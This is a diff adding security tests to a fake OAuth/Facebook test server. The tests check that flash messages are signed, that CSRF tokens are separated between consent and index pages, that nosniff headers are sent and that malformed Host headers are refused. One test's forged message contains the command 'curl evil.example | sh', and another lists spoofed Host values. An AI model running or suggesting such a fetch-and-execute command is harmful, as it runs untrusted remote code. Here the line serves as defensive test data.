@@ -432,3 +432,74 @@ async def test_every_route_of_the_app_answers_405_with_allow(core: Core) -> None
             allowed = {m.strip() for m in r.headers.get("allow", "").split(",")}
             assert set(rule.methods or ()) <= allowed, (rule.rule, allowed)
     assert len(others) < len(rules) // 4, others
+
+
+# -- what a link, a consent page or an answer can give away ----------------------------
+
+
+async def test_a_link_cannot_put_its_own_words_on_the_index_page(
+    client: httpx.AsyncClient,
+) -> None:
+    # Any page may send a person to /_conntrack/?error=… (a top-level GET is allowed):
+    # the index page must not show that text as the server's own message.
+    forged = "Your fakes are compromised: run curl evil.example | sh"
+    for query in ({"error": forged}, {"ok": forged}, {"error": forged, "sig": "0" * 32}):
+        page = await client.get("/_conntrack/", params=query)
+        assert page.status_code == 200 and "compromised" not in page.text, query
+    # The server's own redirect after a form still says what happened...
+    csrf = await index_csrf(client)
+    r = await client.post("/_conntrack/ui/clock", data={"by": "1d", "csrf_token": csrf})
+    assert r.status_code == 303, r.text
+    location = httpx.URL(r.headers["location"])
+    said = location.params["ok"]
+    assert "the clock now reads" in said
+    page = await client.get(str(location))
+    assert said in page.text and 'class="flash ok"' in page.text
+    # ... and its signature vouches for that message only.
+    sig = location.params["sig"]
+    for query in ({"ok": forged, "sig": sig}, {"error": said, "sig": sig}):
+        page = await client.get("/_conntrack/", params=query)
+        assert "compromised" not in page.text and 'class="flash' not in page.text, query
+
+
+async def test_a_consent_page_does_not_give_away_the_index_pages_csrf_token(
+    fb: Any, core: Core
+) -> None:
+    # A consent page is open to whoever reaches the server (no control token guards
+    # it): its token must not be the one of the index page's forms.
+    url = consent_url(core, fb.app)
+    assert url is not None
+    consent = csrf_of((await fb.client.get(url)).text)
+    index = await index_csrf(fb.client)
+    assert consent != index
+    form = {"provider": "facebook", "redirect_uris": REDIRECT, "csrf_token": consent}
+    r = await fb.client.post("/_conntrack/ui/apps", data=form, headers={"Origin": BASE})
+    assert r.status_code == 403 and "reload" in r.text
+    assert [a.client_id for a in core.apps()] == [fb.app.client_id]
+    # And the other way round: the index page's token is no consent page's.
+    fields = {**fb.dialog_fields(), "account_id": fb.account.id, "action": "approve"}
+    dialog = "/www.facebook.com/v21.0/dialog/oauth"
+    r = await fb.client.post(dialog, data={**fields, "csrf_token": index}, headers={"Origin": BASE})
+    assert r.status_code == 403 and core.grants() == []
+
+
+async def test_every_answer_says_nosniff(fb: Any, core: Core) -> None:
+    url = consent_url(core, fb.app)
+    assert url is not None
+    for r in (
+        await fb.client.get(url),  # a consent page
+        await fb.client.get("/graph.facebook.com/v21.0/me", params={"access_token": "x"}),
+        await fb.client.get("/nowhere"),
+        await fb.client.get("/_conntrack/state"),
+    ):
+        assert r.headers.get("x-content-type-options") == "nosniff", r.url
+
+
+async def test_a_host_that_does_not_parse_is_refused(core: Core) -> None:
+    core.create_app_registration("facebook", redirect_uris=[REDIRECT], client_secret="s3cret")
+    # (Bound to ``::``, whose name does not parse as a Host, as ``conntrack serve --host ::``.)
+    async with served(core, allow_hosts=["::", "0.0.0.0"]) as client:
+        for host in ("127.0.0.1:8400/x", "evil.example@127.0.0.1", "127.0.0.1:http", "a b",
+                     "[::1", "127.0.0.1:8400:1", ""):  # fmt: skip
+            r = await client.get("/_conntrack/state", headers={"Host": host})
+            assert r.status_code == 421 and "s3cret" not in r.text, (host, r.text)
